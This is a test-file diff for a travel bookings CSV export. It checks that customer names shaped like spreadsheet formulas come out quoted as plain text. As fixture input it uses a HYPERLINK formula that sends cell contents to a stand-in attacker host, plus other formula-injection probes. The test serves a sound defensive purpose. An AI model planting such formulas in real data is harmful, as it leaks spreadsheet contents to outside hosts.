@@ -236,7 +236,8 @@ describeEachDatabase('bookings export', (database) => {
       Variant: '',
       Customer: 'Jana Nováková',
       'Customer e-mail': jana.email,
-      'Customer phone': '+420 602 123 456',
+      // A leading + starts a formula in a spreadsheet: the cell is quoted as text.
+      'Customer phone': "'+420 602 123 456",
       'Lead traveller': 'Jana Nováková',
       Adults: '2',
       Children: '1',
@@ -386,6 +387,64 @@ describeEachDatabase('bookings export', (database) => {
     });
     expect(response.statusCode).toBe(200);
     expect(response.json().number).toBe(family.number);
+  });
+
+  it('writes a portal visitor named like a formula as text a spreadsheet will not run', async () => {
+    const shop = await makeAgency(database());
+    const staff = (await signIn(app, shop.adminEmail)).cookie;
+    const tour = await makeBookableTour(shop);
+    const link = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const quoted = await app.inject({
+      method: 'POST',
+      url: `/api/v1/portal/${shop.slug}/quotes`,
+      payload: {
+        productId: tour.tourId,
+        from: '2030-07-06',
+        to: '2030-07-13',
+        party: { adults: 2, childAges: [] },
+      },
+    });
+    expect(quoted.statusCode, quoted.body).toBe(201);
+    const booked = await app.inject({
+      method: 'POST',
+      url: `/api/v1/portal/${shop.slug}/bookings`,
+      payload: {
+        quoteId: quoted.json().id,
+        contact: {
+          firstName: link,
+          lastName: '@SUM(1+1)',
+          email: `formula-${uniqueSuffix()}@export.test`,
+          phone: '+420 777 123 456',
+        },
+        travellers: [
+          { firstName: link, lastName: '-2+3', birthDate: '1985-03-12' },
+          { firstName: 'Jana', lastName: 'Nováková', birthDate: '1984-01-30' },
+        ],
+        acceptTerms: true,
+        locale: 'en',
+      },
+    });
+    expect(booked.statusCode, booked.body).toBe(201);
+
+    const response = await app.inject({
+      method: 'GET',
+      url: '/api/v1/bookings/export.csv',
+      headers: { cookie: staff },
+    });
+    expect(response.statusCode).toBe(200);
+    const [row] = rowsOf(response.body);
+    expect(row).toMatchObject({
+      Customer: `'${link} @SUM(1+1)`,
+      'Customer phone': "'+420 777 123 456",
+      'Lead traveller': `'${link} -2+3`,
+      Travellers: `'${link} -2+3; Jana Nováková`,
+      // Numbers stay numbers.
+      Total: '1400.00',
+      Adults: '2',
+    });
+    // No cell of the file begins with a formula character.
+    const cells = (parse(response.body, { bom: true }) as string[][]).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
   });
 
   describe('many bookings', () => {
